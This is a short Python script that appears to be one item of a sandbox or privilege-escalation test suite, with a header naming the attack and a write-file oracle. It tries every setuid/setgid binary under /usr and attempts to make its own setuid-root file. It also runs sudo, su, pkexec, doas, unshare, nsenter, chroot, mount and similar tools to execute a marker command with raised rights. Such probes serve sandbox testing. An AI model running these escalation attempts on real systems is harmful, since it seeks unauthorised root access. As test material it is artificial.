# attack: programs/set-id-and-capabilities
# oracle: write-file
# imports: os, subprocess, glob
# tools:
# source: own
# note: programs that give rights when they are started: set-id files of the system, own ones, namespaces
import glob, os, stat, subprocess
mark = "touch {{PWN_FILE}}"
for path in glob.glob("/usr/*bin/*") + glob.glob("/usr/lib/**/*", recursive=True) + glob.glob("/usr/libexec/**/*", recursive=True):
    try:
        mode = os.stat(path).st_mode
    except OSError:
        continue
    if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
        for words in ([path, "-c", mark], [path, "root", "-c", mark], [path, "sh", "-c", mark], [path, mark]):
            try:
                subprocess.run(words, input="\n", text=True, timeout=0.2, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            except (OSError, subprocess.TimeoutExpired):
                pass
with open("own", "w") as f:
    f.write(f"#!/bin/sh\nid -u\n{mark}\n")
for change in (lambda: os.chmod("own", 0o6755), lambda: os.chown("own", 0, 0), lambda: os.setxattr("own", "security.capability", bytes(20))):
    try:
        change()
    except OSError:
        pass
lines = ["./own", f"unshare -Ur sh -c '{mark}'", f"unshare -m sh -c '{mark}'", f"nsenter -t 1 -a sh -c '{mark}'", f"chroot / sh -c '{mark}'",
         f"setpriv --reuid 0 sh -c '{mark}'", f"sudo {mark}", f"su -c '{mark}'", f"capsh -- -c '{mark}'", f"pkexec {mark}", f"mount -t tmpfs x /srv; {mark}",
         f"mount --bind / /tmp; {mark}", f"newuidmap $$ 0 0 1; {mark}", f"setarch -R sh -c '{mark}'", f"doas {mark}"]
for line in lines:
    try:
        subprocess.run(["sh", "-c", line], timeout=0.5, stdin=subprocess.DEVNULL)
    except (OSError, subprocess.TimeoutExpired):
        pass
